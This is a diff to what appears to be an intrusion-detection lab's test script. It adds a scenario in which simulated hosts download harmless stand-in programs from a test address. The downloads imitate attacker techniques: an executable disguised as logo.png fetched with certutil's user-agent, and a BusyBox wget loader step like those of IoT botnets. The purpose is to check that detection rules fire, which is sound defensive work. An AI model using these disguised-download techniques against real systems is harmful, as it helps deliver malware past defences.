@@ -41,7 +41,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -1327,6 +1327,51 @@ scenario_admin_share() {
   require admin-share 10 "tcp port 445 and host 10.77.2.20 and host 10.77.2.21"
   expect admin-share "smbclient from 10.77.2.20 to Samba on workstation 10.77.2.21, whose shares ADMIN\$ and C\$ stand for Windows' administrative shares: a 30,000-byte PSEXESVC.exe written to ADMIN\$ (as PsExec copies its service program), then C\$ listed." \
     '[{"rule": "smb.admin_share", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.2.21"}, "evidence": {"programs": ["\\\\10.77.2.21\\ADMIN$\\PSEXESVC.exe"]}}]'
+}
+
+# A Windows program at $1: the console launcher pip vendors (distlib t64.exe) when this
+# Python has it; otherwise a bare PE header (DOS stub pointing at "PE\0\0", machine
+# x86-64) padded to 64 KiB, which is what the lab's rules read of a program.
+pe_program() {
+  local out=$1 dir
+  dir=$(python3 -c 'import os, pip._vendor.distlib as m; print(os.path.dirname(m.__file__))' 2>/dev/null || true)
+  if [ -n "$dir" ] && [ -f "$dir/t64.exe" ]; then cp "$dir/t64.exe" "$out"; return; fi
+  python3 -c '
+import struct, sys
+b = bytearray(65536)
+b[0:2] = b"MZ"; b[0x3c:0x40] = struct.pack("<I", 0x80)
+b[0x80:0x86] = b"PE\0\0" + struct.pack("<H", 0x8664)
+open(sys.argv[1], "wb").write(b)' "$out"
+}
+
+scenario_exe_download() {
+  mkdir -p "$WORK/www/img" "$WORK/www/setup" "$WORK/www/bins" "$WORK/www/msdownload" "$WORK/www/files"
+  pe_program "$WORK/www/img/logo.png"
+  cp "$WORK/www/img/logo.png" "$WORK/www/setup/agent-setup.exe"
+  cp "$WORK/www/img/logo.png" "$WORK/www/msdownload/windows-kb-update.exe"
+  cp /usr/bin/true "$WORK/www/bins/x86"
+  head -c 20000 /dev/urandom | gzip -c >"$WORK/www/files/backup.tar.gz"
+  # certutil -urlcache -f http://198.51.100.10/img/logo.png: a program under an image's name, by
+  # certutil's user-agent, from a bare address.
+  curl_ua ws20 "CertUtil URL Agent" http://198.51.100.10/img/logo.png
+  # A browser downloads an installer from a domain nobody else visits.
+  curl_ua ws21 "$BROWSER_UA" http://downloads.tools-lab.example/setup/agent-setup.exe --resolve downloads.tools-lab.example:80:198.51.100.10
+  # A Linux server fetches an ELF with BusyBox wget from a bare address (the loader step of IoT botnets).
+  nsx srv timeout 10 busybox wget -q -O /dev/null http://198.51.100.10/bins/x86
+  # No alert: a program from a popular vendor's update domain, an archive, a page.
+  curl_ua ws23 "Microsoft-Delivery-Optimization/10.0" http://download.windowsupdate.com/msdownload/windows-kb-update.exe --resolve download.windowsupdate.com:80:198.51.100.10
+  curl_ua ws23 "$BROWSER_UA" http://198.51.100.10/files/backup.tar.gz
+  curl_ua ws23 "$BROWSER_UA" http://198.51.100.10/index.html
+  stop_capture
+  require exe-download 3 "tcp src port 80 and dst host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
+  require exe-download 3 "tcp src port 80 and dst host 10.77.1.10 and tcp[tcpflags] & tcp-push != 0"
+  require exe-download 3 "tcp src port 80 and dst host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
+  expect exe-download "Programs downloaded over plain HTTP from the Internet host 198.51.100.10 (busybox httpd). 10.77.2.20: a Windows program as /img/logo.png (served as image/png) with certutil's user-agent (curl -A); 10.77.2.21: the same program as /setup/agent-setup.exe from downloads.tools-lab.example with a browser's user-agent; server 10.77.1.10: an ELF (/usr/bin/true) as /bins/x86 with BusyBox wget. 10.77.2.23 must not alert: the program as an update from download.windowsupdate.com (a popular domain), a .tar.gz and a page. device.new may fire for the server network's hosts (10.77.1.10 and the router), whose first frames these are." \
+    '[{"rule": "http.executable_download", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-dosexec", "fetched_by": "certutil", "content_type": "image/png"}},
+    {"rule": "http.executable_download", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-dosexec", "host": "downloads.tools-lab.example", "fetched_by": null}},
+    {"rule": "http.executable_download", "source": {"ip": "10.77.1.10"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"mime_type": "application/x-executable", "fetched_by": "Wget"}}]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
 }
 
 # ------------------------------------------------------------------ runner
